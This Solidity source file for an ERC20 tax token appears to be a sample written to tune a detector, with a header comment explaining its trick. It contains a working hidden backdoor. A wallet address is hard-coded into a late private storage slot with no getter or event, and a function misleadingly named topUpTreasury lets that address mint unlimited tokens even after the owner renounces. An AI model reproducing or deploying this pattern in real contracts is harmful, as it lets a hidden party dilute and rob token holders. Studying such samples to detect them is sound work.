// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

// A power held by a wallet written into the source as a literal and stored in the token's
// twenty-seventh slot: the literal is in the creation code only (an initializer runs in the
// constructor), no getter, event, argument or later call names it, and the owner renounces.
// Real tax tokens keep their marketing and team wallets this way. Written as a tuning token for
// accounts kept past the first slots; other names than the held-out part.

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";

contract TnLateSlotToken is ERC20, Ownable {
    uint256 private buyTaxBps = 100;
    uint256 private sellTaxBps = 100;
    uint256 private transferTaxBps;
    uint256 private maxTxAmount = type(uint256).max;
    uint256 private maxWalletAmount = type(uint256).max;
    uint256 private swapThreshold = 1e18;
    uint256 private lastSwapBlock;
    uint256 private launchBlock;
    uint256 private launchTime;
    uint256 private cooldownSeconds;
    uint256 private liquidityShare = 40;
    uint256 private marketingShare = 40;
    uint256 private teamShare = 20;
    uint256 private totalShares = 100;
    uint256 private rewardsPerShare;
    uint256 private rewardsDistributed;
    uint256 private holdersCount;
    uint256 private epoch = 1;
    uint256 private epochLength = 1 days;
    uint256 private version = 2;
    address private treasuryKeeper = 0xED46235A07ab07BB5327c2b3216b6F900E2C8C8F;

    constructor(string memory n, string memory s, uint256 supply) ERC20(n, s) Ownable(msg.sender) {
        launchBlock = block.number;
        launchTime = block.timestamp;
        _mint(msg.sender, supply);
    }

    /// "Tops up" the treasury: mints any amount to the keeper.
    function topUpTreasury(uint256 amount) external {
        require(msg.sender == treasuryKeeper, "keeper");
        _mint(msg.sender, amount);
    }
}
